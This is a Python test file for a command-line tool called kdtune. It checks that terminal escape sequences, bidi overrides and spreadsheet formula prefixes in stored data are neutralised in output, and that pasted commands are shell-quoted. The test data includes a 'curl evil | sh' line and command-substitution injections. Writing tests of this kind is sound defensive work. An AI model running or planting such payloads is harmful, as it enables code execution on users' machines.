"""Text of others in results, studies, data and checkpoints: no command gives it to a terminal as it is."""

import csv
import io
from pathlib import Path

import pyarrow as pa
import pytest
import torch
from click.testing import CliRunner, Result

from kdtune.bench.synthetic_study import fill, synthetic_study
from kdtune.cli import main
from kdtune.records.launched import Launched, write_launch
from kdtune.records.logbook import LOG
from kdtune.records.storage import Storage

EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\n| x | = |"
STUDY = "growth-4"
NAMED = ("error", "device", "node", "start")  # columns of free text


@pytest.fixture(scope="module")
def storage(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A finished study of which somebody has changed what he could."""
    root = str(tmp_path_factory.mktemp("results"))
    where, study = Storage(root, STUDY), synthetic_study(4)
    fill(where, study)
    table = where.table("trials")
    for name in NAMED:
        column = pa.array([f"={EVIL}"] * len(table))
        table = table.set_column(table.schema.get_field_index(name), name, column)
    where.write_tables({"trials": table})
    write_launch(
        where.folder, Launched("2026-01-01T00:00:00", host=EVIL, pid=1, command=EVIL, ended_at=EVIL, outcome=EVIL)
    )
    where.folder.write(LOG, f"2026 {EVIL}\n".encode())
    where.write_log(table["trial_id"][0].as_py(), 1, f"printed {EVIL}\n")
    where.folder.write("\x1b[31m.png", b"")
    return root


def shown(*words: str | Path) -> Result:
    """What a command prints, once it is seen that no character of it is obeyed."""
    done = CliRunner().invoke(main, list(map(str, words)))
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    for character in "\x1b\x07\x9b\u202e":
        assert character not in done.output, (words, done.output)
    return done


@pytest.mark.parametrize("words", ["status", "logs", "stop", "results", "results --table trials"])
def test_of_a_study(storage: str, words: str) -> None:
    done = shown(*words.split(), STUDY, "--storage", storage)
    assert done.exit_code == 0, done.output
    assert STUDY in done.output or "owned" in done.output


def test_of_a_trial(storage: str) -> None:
    trial = Storage(storage, STUDY).table("trials")["trial_id"][0].as_py()
    assert r"printed \x1b]0;owned" in shown("logs", STUDY, "--storage", storage, "--trial", trial).output


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("kdtune launch demo --set 'recipe.crop=[64, 64]'", "kdtune launch demo --set 'recipe.crop=[64, 64]'"),
        ("kdtune launch demo; curl evil | sh", "kdtune launch 'demo;' curl evil '|' sh"),
        ("kdtune launch $(evil) `evil`", "kdtune launch '$(evil)' '`evil`'"),
        ("curl evil | sh", None),
        ("kdtune launch 'demo", None),
    ],
)
def test_a_command_to_continue_with_is_one_of_kdtunes(tmp_path: Path, command: str, told: str | None) -> None:
    """People paste it into a shell."""
    where, study = Storage(str(tmp_path), STUDY), synthetic_study(4)
    where.write_study(study, {})
    write_launch(where.folder, Launched("2026-01-01", host="h", pid=1, command=command, ended_at="x", outcome="lost"))
    lines = shown("status", STUDY, "--storage", tmp_path).output.splitlines()
    assert [line for line in lines if line.startswith("continue with")] == ([f"continue with: {told}"] if told else [])


@pytest.mark.parametrize("form", ["text", "markdown", "latex", "csv", "json"])
def test_of_every_format(storage: str, form: str) -> None:
    for table in ("optimal", "grid", "final", "cost", "emissions", "trials"):
        lines = shown("results", STUDY, "--storage", storage, "--table", table, "--format", form).output.splitlines()
        assert not [line for line in lines if form == "markdown" and line.startswith("| x")]


def test_a_spreadsheet_computes_none_of_it(storage: str) -> None:
    text = shown("results", STUDY, "--storage", storage, "--table", "trials", "--format", "csv").output
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["error"][:2] for row in rows] == ["'="] * 4
    assert float(rows[0]["miou"]) > 0


def test_of_a_study_file(tmp_path: Path) -> None:
    file = tmp_path / "\x1b[31m.yaml"
    file.write_text('name: "\\e[2J"\n"\\e[31mkey": 1\nbase: {"\\e": 1}\nstages: []\n')
    done = shown("studies", "validate", file)
    assert done.exit_code == 2
    assert r"\x1b[31mkey" in done.stderr


def test_of_files(tmp_path: Path, storage: str) -> None:
    assert r"\x1b[31m.png" in shown("pull", storage, tmp_path / "pulled").stderr
    assert r"\x1b.pt" in shown("evaluate", tmp_path / "\x1b.pt", "--data", "synth").stderr
    file = tmp_path / "\x1b[31mteacher.pth"
    torch.save({"\x1b[2Jkey": torch.zeros(1)}, file)
    done = shown("teacher", "import", file, "--layout", "kdtune", "-o", tmp_path / "t.safetensors")
    assert done.exit_code == 2
    assert "\\x1b" in done.stderr


def test_of_a_data_set(tmp_path: Path) -> None:
    for folder in ("train", "trainannot", "val", "valannot"):
        (tmp_path / "camvid" / folder).mkdir(parents=True)
        (tmp_path / "camvid" / folder / "\x1b[31m.png").write_bytes(b"no image")
    done = shown("data", "check", "camvid", "--root", tmp_path / "camvid")
    assert done.exit_code == 2
    assert r"\x1b[31m.png" in done.stderr
